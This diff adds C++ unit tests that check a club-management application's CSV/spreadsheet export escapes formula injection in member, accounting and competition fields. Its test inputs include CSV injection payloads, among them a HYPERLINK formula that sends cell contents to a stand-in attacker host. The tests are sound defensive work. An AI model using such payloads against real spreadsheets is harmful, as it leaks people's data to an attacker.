@@ -6,6 +6,8 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
+#include <functional>
 #include <sstream>
 
 using namespace tramonta;
@@ -211,6 +213,97 @@ INSTANTIATE_TEST_SUITE_P(Table, EcritureAdherent,
                                          CasEcriture{"Classement", "12,5", false},
                                          CasEcriture{"Certificat médical", "peut-être", false},
                                          CasEcriture{"Certificat médical", "Non", true}));
+
+struct CasNeutralisation {
+    const char* titre;
+    std::function<void(TAdherent&)> remplir;
+    const char* ecrit;
+};
+
+void PrintTo(const CasNeutralisation& c, std::ostream* os) {
+    *os << c.titre << " → " << c.ecrit;
+}
+
+class Neutralisation : public testing::TestWithParam<CasNeutralisation> {};
+
+// A text column never goes out as a formula that a spreadsheet would run,
+// and reads back as it was; amounts and numbers go out as they are.
+TEST_P(Neutralisation, ColonneValeurEcriteEtRelue) {
+    const CasNeutralisation& cas = GetParam();
+    TAdherent a(nullptr);
+    cas.remplir(a);
+    std::ostringstream sortie;
+    ExporterAdherents({&a}, sortie);
+    const auto lignes = Lire(sortie.str());
+    ASSERT_EQ(lignes.size(), 2u);
+    const auto& colonnes = ColonnesAdherents();
+    const auto k = static_cast<std::size_t>(
+        std::find_if(colonnes.begin(), colonnes.end(),
+                     [&](const auto& c) { return c.titre == std::string(cas.titre); }) -
+        colonnes.begin());
+    ASSERT_LT(k, colonnes.size());
+    EXPECT_EQ(lignes[1][k], cas.ecrit);
+    TAdherent relu(nullptr);
+    EXPECT_TRUE(colonnes[k].ecrire(relu, lignes[1][k]));
+    for (const auto& c : colonnes)
+        EXPECT_EQ(c.lire(relu), c.lire(a)) << c.titre;
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Table, Neutralisation,
+    testing::Values(
+        CasNeutralisation{
+            "Nom", [](TAdherent& a) { a.SetNom("=HYPERLINK(\"http://attaquant.example/?v=\"&B3&C3)"); },
+            "'=HYPERLINK(\"http://attaquant.example/?v=\"&B3&C3)"},
+        CasNeutralisation{"Prénom", [](TAdherent& a) { a.SetPrenom("'=1+1"); }, "''=1+1"},
+        CasNeutralisation{"Prénom", [](TAdherent& a) { a.SetPrenom("'Ami"); }, "'Ami"},
+        CasNeutralisation{"Adresse", [](TAdherent& a) { a.SetAdresse("-1 rue\r\n=2"); }, "'-1 rue\r\n=2"},
+        CasNeutralisation{"Tél. 1", [](TAdherent& a) { a.SetTel1("+33 6 12 34 56 78"); },
+                          "'+33 6 12 34 56 78"},
+        CasNeutralisation{"Informations complémentaires",
+                          [](TAdherent& a) { a.SetInformationsComplementaires("@SOMME(A1)"); },
+                          "'@SOMME(A1)"},
+        CasNeutralisation{"Ville", [](TAdherent& a) { a.SetVille("＝1"); }, "'＝1"},
+        CasNeutralisation{"Lieu de naissance", [](TAdherent& a) { a.SetLieuNaissance("\tcmd"); }, "'\tcmd"},
+        CasNeutralisation{"Classement", [](TAdherent& a) { a.SetClassement(-3); }, "-3"},
+        CasNeutralisation{"Montant licence", [](TAdherent& a) { a.SetMontantLicence(-12.5); }, "-12,5"},
+        CasNeutralisation{"Nom", [](TAdherent& a) { a.SetNom("Jean-Paul"); }, "Jean-Paul"}));
+
+// The lists that are only written: the texts typed by the user are made
+// harmless, the amounts stay numbers.
+TEST_F(ExportTableur, EcrituresEtParticipantsNeutralisentLeursTextes) {
+    TComptabilite& compta = exercice.Comptabilite();
+    auto compte = std::make_unique<TCompte>(&compta);
+    compte->SetArticle("=706");
+    compte->SetIntitule("+Licences");
+    auto l = std::make_unique<TLigneEcriture>(compte.get());
+    l->SetLibelle("=HYPERLINK(\"http://attaquant.example\")");
+    l->SetMontant(-45.5);
+    l->SetTypePaiement(0);
+    l->SetNumeroCheque("@1");
+    compte->AjouterLigne(std::move(l));
+    compta.AjouterCompteProduit(std::move(compte));
+    std::ostringstream sortie;
+    ExporterEcritures(compta, sortie);
+    const auto lignes = Lire(sortie.str());
+    ASSERT_EQ(lignes.size(), 2u);
+    EXPECT_EQ(lignes[1], (std::vector<std::string>{"'=706", "'+Licences", "Produit", "01/09/2024",
+                                                   "'=HYPERLINK(\"http://attaquant.example\")", "-45,5",
+                                                   "Chèque", "'@1", "Non"}));
+
+    TCompet compet;
+    auto p = std::make_unique<TParticipantCompet>(compet.Categorie(0));
+    p->SetNom("-Dupont");
+    p->SetPrenom("=A1");
+    p->SetClub("@club");
+    compet.Categorie(0)->Add(std::move(p));
+    std::ostringstream participants;
+    ExporterParticipants(compet, participants);
+    const auto lus = Lire(participants.str());
+    ASSERT_EQ(lus.size(), 2u);
+    EXPECT_EQ(std::vector<std::string>(lus[1].begin() + 2, lus[1].end()),
+              (std::vector<std::string>{"'-Dupont", "'=A1", "'@club"}));
+}
 
 TEST_F(ExportTableur, LaCategorieNeSeRelitPas) {
     for (const auto& c : ColonnesAdherents())
